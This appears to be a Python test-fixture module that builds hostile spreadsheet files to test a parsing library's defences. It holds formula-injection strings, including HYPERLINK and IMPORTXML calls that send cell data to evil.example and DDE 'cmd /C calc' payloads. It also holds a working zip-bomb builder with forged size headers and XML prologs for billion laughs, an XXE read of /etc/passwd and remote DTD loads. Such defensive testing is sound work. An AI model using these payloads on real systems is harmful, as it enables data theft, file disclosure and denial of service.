"""Builders for the hostile corpus: workbooks written part by part, so that every part can be made to attack.

Nothing here is stored: each test builds its file in ``tmp_path``. The bombs are
small (a few MB inflated) and the tests lower perfkit's limits to meet them, except
one full-size bomb built in well under a second from repeated compressed blocks.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from xml.sax.saxutils import escape

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

MILESTONES = [
    ["Council Plan 2023/24 milestones"],
    [],
    ["Ref", "Milestone", "Lead officer", "Due date", "Q1 Status", "Q1 Commentary", "Q2 Status", "Q2 Commentary"],
    ["M1", "Open the new library", "A. Officer", "2024-03-31", "Green", "On track", "Green", "Going well"],
    ["M2", "Resurface the high street", "B. Officer", "2024-03-31", "Amber", "Delayed", "Red", "Contractor left"],
    ["M3", "Adopt the local plan", "C. Officer", "2024-03-31", "Green", "Consulted", "Amber", "Inspector queries"],
]

#: Text that a spreadsheet program would run as a formula, as attackers write it (OWASP's examples and more).
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
]


def col(c: int) -> str:
    s = ""
    c += 1
    while c:
        c, r = divmod(c - 1, 26)
        s = chr(65 + r) + s
    return s


def sheet_xml(rows, prolog: str = "") -> str:
    """A worksheet part holding ``rows`` as inline strings (numbers as numbers)."""
    out = [f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}<worksheet {NS}><sheetData>']
    for r, row in enumerate(rows, start=1):
        out.append(f'<row r="{r}">')
        for c, v in enumerate(row):
            ref = f"{col(c)}{r}"
            if v is None or v == "":
                continue
            if isinstance(v, (int, float)) and not isinstance(v, bool):
                out.append(f'<c r="{ref}"><v>{v}</v></c>')
            else:
                out.append(f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(v))}</t></is></c>')
        out.append("</row>")
    out.append("</sheetData></worksheet>")
    return "".join(out)


def workbook_parts(sheets: dict[str, str]) -> dict[str, bytes]:
    """The parts of a minimal .xlsx whose sheets have the given XML."""
    names = list(sheets)
    wb = f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook {NS}><sheets>' + "".join(
        f'<sheet name="{escape(n)}" sheetId="{i}" r:id="rId{i}"/>' for i, n in enumerate(names, start=1)
    ) + "</sheets></workbook>"
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{i}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(names) + 1)
        )
        + "</Relationships>"
    )
    overrides = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, len(names) + 1)
    )
    parts = {
        "[Content_Types].xml": CONTENT_TYPES.format(sheets=overrides).encode(),
        "_rels/.rels": ROOT_RELS.encode(),
        "xl/workbook.xml": wb.encode(),
        "xl/_rels/workbook.xml.rels": rels.encode(),
    }
    for i, n in enumerate(names, start=1):
        parts[f"xl/worksheets/sheet{i}.xml"] = sheets[n].encode() if isinstance(sheets[n], str) else sheets[n]
    return parts


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return buf.getvalue()


def xlsx_bytes(rows=MILESTONES, sheet="Milestones", prolog: str = "") -> bytes:
    """A small, valid .xlsx (as bytes) with one sheet of ``rows``."""
    return zip_bytes(workbook_parts({sheet: sheet_xml(rows, prolog)}))


def bomb_stream(inflated_mb: int, unit: bytes = b"<row/>" * 170_000) -> tuple[bytes, int, int]:
    """Raw deflate data that inflates to about ``inflated_mb`` MB of XML, built fast.

    Returns (compressed, inflated size, crc32). A block of repeated text is
    compressed once with a full flush and its compressed bytes repeated: each
    repeat inflates to the same block, so building 300 MB costs as little as 1.
    """
    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    tail = b"</sheetData></worksheet>"
    block = unit[: 1024 * 1024]
    n = max(1, inflated_mb)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = c2.compress(block) + c2.flush(zlib.Z_FULL_FLUSH)
    c3 = zlib.compressobj(9, zlib.DEFLATED, -15)
    end = c3.compress(tail) + c3.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    return first + body * n + end, len(head) + len(block) * n + len(tail), crc


def bomb_xlsx(inflated_mb: int, declared_size: int | None = None) -> bytes:
    """A valid-looking .xlsx whose one sheet inflates to ``inflated_mb`` MB.

    ``declared_size`` makes the zip lie about the sheet's uncompressed size
    (in both its local header and central directory), as a crafted bomb does.
    """
    stream, size, crc = bomb_stream(inflated_mb)
    parts = workbook_parts({"Milestones": "<placeholder/>"})
    del parts["xl/worksheets/sheet1.xml"]
    data = bytearray(zip_bytes(parts))
    # append one more member by hand, with raw deflate data, before the central directory
    eocd = data.rfind(b"PK\x05\x06")
    cd_size, cd_offset = struct.unpack("<II", data[eocd + 12 : eocd + 20])
    entries = int.from_bytes(data[eocd + 10 : eocd + 12], "little")
    central = bytes(data[cd_offset : cd_offset + cd_size])
    body = bytes(data[:cd_offset])
    name = b"xl/worksheets/sheet1.xml"
    declared = size if declared_size is None else declared_size
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(stream), declared, len(name), 0) + name
    offset = len(body)
    cd_entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(stream), declared,
                           len(name), 0, 0, 0, 0, 0, offset) + name
    new_body = body + local + stream
    new_central = central + cd_entry
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries + 1, entries + 1, len(new_central), len(new_body), 0)
    return new_body + new_central + end


def entity_payloads() -> dict[str, str]:
    """XML prologs that attack a parser: billion laughs, external entities, a remote DTD."""
    laughs = '<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    ) + "]>"
    return {
        "billion laughs": laughs,
        "external file": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "remote dtd": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    }


def csv_text(rows) -> str:
    out = io.StringIO()
    import csv

    csv.writer(out).writerows(rows)
    return out.getvalue()
